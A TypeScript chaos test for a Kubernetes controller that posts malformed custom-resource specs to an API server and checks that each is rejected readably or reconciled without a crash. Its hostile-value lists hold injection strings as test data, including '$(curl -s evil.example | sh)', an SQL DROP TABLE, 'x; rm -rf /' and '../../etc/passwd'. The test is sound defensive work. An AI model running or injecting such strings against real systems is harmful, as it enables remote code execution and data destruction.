/**
 * R4 hostile specs: for each kind (EcsExtension, PatchPolicy, MaintenanceWindow, AppRelease) at
 * least `r4PerKind` malformed objects — wrong types, out-of-range numbers, bad IDs, both or neither
 * target forms, injection-looking strings in names, hook scripts and parameters, 1 MiB fields,
 * unicode and control characters — are sent to the real API server (the request `kubectl create`
 * makes) while the compiled controller runs. Each must be rejected at admission with a readable
 * message (it names the field, and is not huge), or, if admitted, be reconciled: a Ready
 * condition for its generation, Stalled=True with a reason when the spec cannot work. The
 * controller must not crash. A seeded shuffle picks the (field, value) pairs.
 */
import { setTimeout as sleep } from 'node:timers/promises';
import { startEmulator } from '../../src/emulator/index.js';
import { kubeRequestRaw } from '../harness/kube-raw.js';
import {
  API,
  chaosSeed,
  cond,
  ControllerProc,
  createNamespace,
  ids,
  list,
  PKG,
  REGION,
  Rng,
  type Figure,
  type Obj,
} from './lib.js';
import type { ChaosContext } from './run.js';

const MIB = 'x'.repeat(1 << 20);

/** Hostile values tried in every field. */
const HOSTILE: unknown[] = [
  42,
  -1,
  1e18,
  true,
  [],
  {},
  '',
  ' ',
  MIB,
  '名前🚀\u202eexe.sh',
  '$(curl -s evil.example | sh)',
  "'; DROP TABLE instances; --",
  '{{ACS::RegionId}}',
  'a\u0000b',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  'I-UPPER',
  '101%',
  '-5%',
  'NaN',
  null,
];

interface KindCase {
  kind: string;
  /** First instance index of this kind's disjoint targets. */
  offset: number;
  plural: string;
  base: Record<string, unknown>;
  fields: string[];
}

const KINDS: KindCase[] = [
  {
    kind: 'EcsExtension',
    offset: 0,
    plural: 'ecsextensions',
    base: {
      regionId: REGION,
      packageName: PKG,
      parameters: { version: 'g1' },
      targets: { instanceIds: ids('hs', 1, 3) },
    },
    fields: [
      'regionId',
      'packageName',
      'packageVersion',
      'parameters',
      'parameters.version',
      'parameters.nested.deeper',
      'targets',
      'targets.instanceIds',
      'targets.instanceIds.0',
      'targets.tags',
      'targets.excludeInstanceIds',
      'rateControl.concurrency',
      'rateControl.maxErrors',
      'interval',
      'deletionPolicy',
      'mode',
      'suspend',
    ],
  },
  {
    kind: 'PatchPolicy',
    offset: 200,
    plural: 'patchpolicies',
    base: {
      regionId: REGION,
      targets: { instanceIds: ids('hs', 4, 5) },
      scan: { schedule: '0 3 * * *', timeZone: 'Asia/Shanghai' },
      install: {
        maintenanceWindow: { schedule: '0 1 * * SAT', duration: '4h', timeZone: 'UTC' },
        snapshot: { enabled: true, retentionDays: 7 },
      },
    },
    fields: [
      'regionId',
      'targets.instanceIds',
      'targets.tags',
      'scan.schedule',
      'scan.timeZone',
      'install.maintenanceWindow.schedule',
      'install.maintenanceWindow.duration',
      'install.maintenanceWindow.timeZone',
      'install.maintenanceWindowRef.name',
      'install.snapshot.retentionDays',
      'install.parallelBatches',
      'install.minRemaining',
      'interval',
    ],
  },
  {
    kind: 'MaintenanceWindow',
    offset: 400,
    plural: 'maintenancewindows',
    base: {
      schedule: '0 1 * * SAT',
      duration: '4h',
      timeZone: 'Asia/Shanghai',
      blackoutDates: ['2026-12-24/2026-12-26'],
    },
    fields: ['schedule', 'duration', 'timeZone', 'blackoutDates', 'blackoutDates.0'],
  },
  {
    kind: 'AppRelease',
    offset: 400,
    plural: 'appreleases',
    base: {
      regionId: REGION,
      targets: { instanceIds: ids('hs', 6, 8) },
      application: 'web',
      version: '1.0.0',
      artifact: { url: 'https://example.com/web.tgz', sha256: 'a'.repeat(64) },
      hooks: { start: { script: 'echo start', timeoutSeconds: 30 } },
    },
    fields: [
      'application',
      'version',
      'artifact.url',
      'artifact.sha256',
      'artifact.format',
      'install.appDir',
      'install.user',
      'install.env',
      'install.env.PORT',
      'hooks.start.script',
      'hooks.start.timeoutSeconds',
      'hooks.stop',
      'healthCheck.http.port',
      'healthCheck.http.path',
      'strategy.batchSize',
      'strategy.canary.instances',
      'progressDeadlineSeconds',
    ],
  },
];

const HOSTILE_NAMES = ['x; rm -rf /', 'UPPER-case', 'a'.repeat(300), '名前', '$(id)', '../escape'];

function setPath(obj: Record<string, unknown>, path: string, value: unknown): void {
  const parts = path.split('.');
  let cur: Record<string, unknown> = obj;
  for (const p of parts.slice(0, -1)) {
    const next = cur[p];
    if (typeof next !== 'object' || next === null) cur[p] = {};
    cur = cur[p] as Record<string, unknown>;
  }
  const last = parts[parts.length - 1]!;
  if (Array.isArray(cur)) cur[Number(last)] = value;
  else cur[last] = value;
}

/** A readable rejection: names a field, says what is wrong, and is not a dump. */
function readable(msg: string): boolean {
  return (
    msg.length >= 10 &&
    msg.length <= 8192 &&
    /(spec\.|metadata\.name|\bname\b)/.test(msg) &&
    !msg.includes('\u0000')
  );
}

interface KindResult {
  sent: number;
  rejected: number;
  unreadable: string[];
  admitted: number;
  stalled: Record<string, number>;
  ready: number;
  otherReasons: Record<string, number>;
  unreconciled: string[];
  longestMessage: number;
}

/** Runs R4's admission part; see the module comment. */
export async function r4HostileSpecs(ctx: ChaosContext): Promise<Figure> {
  const t0 = Date.now();
  const rng = new Rng(ctx.seed('R4'));
  const emu = await startEmulator({ seed: chaosSeed('hs', 600), timeScale: 0.01 });
  const ns = 'chaos-r4';
  let proc: ControllerProc | undefined;
  const results: Record<string, KindResult> = {};
  const samples: string[] = [];
  const reasons: string[] = [];
  try {
    await createNamespace(ctx.kc, ns);
    proc = new ControllerProc({ kubeconfig: ctx.cp.kubeconfigPath, namespace: ns, emu, logLevel: 'warn' });
    for (const k of KINDS) {
      const res: KindResult = {
        sent: 0,
        rejected: 0,
        unreadable: [],
        admitted: 0,
        stalled: {},
        ready: 0,
        otherReasons: {},
        unreconciled: [],
        longestMessage: 0,
      };
      results[k.kind] = res;
      const combos: Array<[string, unknown]> = [];
      for (const f of k.fields) for (const v of HOSTILE) combos.push([f, v]);
      // Seeded shuffle.
      for (let i = combos.length - 1; i > 0; i--) {
        const j = rng.int(0, i);
        [combos[i], combos[j]] = [combos[j]!, combos[i]!];
      }
      // Seeded order; 1 MiB values go into every int-or-string field and two others.
      const intOrString = /rateControl|batchSize|maxErrors/;
      const big = combos.filter(([f, v]) => v === MIB && intOrString.test(f));
      const picked = [
        ...big,
        ...combos.filter(([f, v]) => v === MIB && !intOrString.test(f)).slice(0, 2),
        ...combos.filter(([, v]) => v !== MIB),
      ].slice(0, ctx.profile.r4PerKind - HOSTILE_NAMES.length);
      const bodies: Array<{ name: string; spec: Record<string, unknown>; what: string }> = picked.map(
        ([f, v], i) => {
          const spec = structuredClone(k.base);
          // Disjoint instances (and applications) per object, so admitted ones do not merely
          // conflict with each other.
          if (spec.targets)
            spec.targets = { instanceIds: ids('hs', k.offset + i * 2 + 1, k.offset + i * 2 + 2) };
          if (spec.application) spec.application = `web-${i}`;
          setPath(spec, f, v);
          return {
            name: `${k.kind.toLowerCase()}-h${i}`,
            spec,
            what: `${f}=${JSON.stringify(v)?.slice(0, 40)}`,
          };
        },
      );
      for (const name of HOSTILE_NAMES)
        bodies.push({
          name,
          spec: structuredClone(k.base),
          what: `metadata.name=${JSON.stringify(name).slice(0, 40)}`,
        });
      for (const b of bodies) {
        res.sent++;
        try {
          await kubeRequestRaw(ctx.kc, 'POST', `${API}/namespaces/${ns}/${k.plural}`, {
            apiVersion: 'ecsops.io/v1alpha1',
            kind: k.kind,
            metadata: { name: b.name },
            spec: b.spec,
          });
          res.admitted++;
        } catch (err) {
          const code = (err as { code?: number }).code ?? 0;
          const msg = String(
            (err as { body?: { message?: string } }).body?.message ?? (err as Error).message,
          );
          if (code >= 500 || code === 0) throw err;
          res.rejected++;
          res.longestMessage = Math.max(res.longestMessage, msg.length);
          if (!readable(msg)) res.unreadable.push(`${b.what}: ${code} ${msg.slice(0, 200)}`);
          if (samples.length < 8 && rng.float() < 0.05)
            samples.push(`${k.kind} ${b.what} → ${code} ${msg.slice(0, 160)}`);
        }
      }
    }
    // Give the controller time to reconcile everything that was admitted.
    const deadline = Date.now() + 90_000;
    let objsByKind: Record<string, Obj[]> = {};
    while (Date.now() < deadline) {
      objsByKind = {};
      for (const k of KINDS) objsByKind[k.kind] = await list(ctx.kc, ns, k.plural);
      const pending = Object.values(objsByKind)
        .flat()
        .filter(
          (o) =>
            !cond(o, 'Ready') ||
            cond(o, 'Ready') === undefined ||
            o.status?.observedGeneration !== o.metadata.generation,
        );
      if (pending.length === 0) break;
      await sleep(1000);
    }
    for (const k of KINDS) {
      const res = results[k.kind]!;
      for (const o of objsByKind[k.kind] ?? []) {
        const ready = cond(o, 'Ready');
        const stalled = cond(o, 'Stalled');
        if (!ready || o.status?.observedGeneration !== o.metadata.generation)
          res.unreconciled.push(o.metadata.name);
        else if (stalled?.status === 'True') {
          const reason = stalled.reason ?? '?';
          if (!res.stalled[reason]) {
            reasons.push(`${k.kind} ${o.metadata.name} Stalled ${reason}: ${stalled.message?.slice(0, 240)}`);
          }
          res.stalled[reason] = (res.stalled[reason] ?? 0) + 1;
        } else if (ready.status === 'True') res.ready++;
        else res.otherReasons[ready.reason ?? '?'] = (res.otherReasons[ready.reason ?? '?'] ?? 0) + 1;
      }
    }
    const crashes = proc.crashed ? 1 : 0;
    const alive = proc.alive;
    const unreadable = Object.values(results).reduce((a, r) => a + r.unreadable.length, 0);
    const unreconciled = Object.values(results).reduce((a, r) => a + r.unreconciled.length, 0);
    // A rejection that echoes a 1 MiB value is reported, not gating: for enum fields the API
    // server prints "Unsupported value: <value>" whatever maxLength says (see docs/chaos.md).
    const pass =
      crashes === 0 && alive && unreconciled === 0 && Object.values(results).every((r) => r.sent >= 50);
    const per = Object.entries(results)
      .map(
        ([kind, r]) =>
          `${kind} ${r.sent} sent: ${r.rejected} rejected at admission (longest message ${r.longestMessage} chars), ${r.admitted} admitted → Stalled ${JSON.stringify(r.stalled)}, Ready ${r.ready}, other ${JSON.stringify(r.otherReasons)}, unreconciled ${r.unreconciled.length}`,
      )
      .join('; ');
    return {
      id: 'R4a',
      title: 'hostile specs at admission',
      pass,
      seed: rng.seed,
      seconds: (Date.now() - t0) / 1000,
      findings: unreadable > 0 ? [`${unreadable} rejection(s) echo a 1 MiB value (enum fields)`] : [],
      line: `R4 hostile specs: ${per}; unreadable rejections ${unreadable}; controller crashes ${crashes}`,
      details: [
        ...samples.map((s) => `sample: ${s}`),
        ...reasons,
        ...Object.values(results).flatMap((r) => r.unreadable.slice(0, 3).map((u) => `unreadable: ${u}`)),
        ...Object.entries(results).flatMap(([kind, r]) =>
          r.unreconciled.slice(0, 3).map((u) => `unreconciled ${kind}: ${u}`),
        ),
      ],
    };
  } finally {
    await proc?.kill('SIGTERM');
    await ctx.deleteNamespace(ns);
    await emu.stop();
  }
}
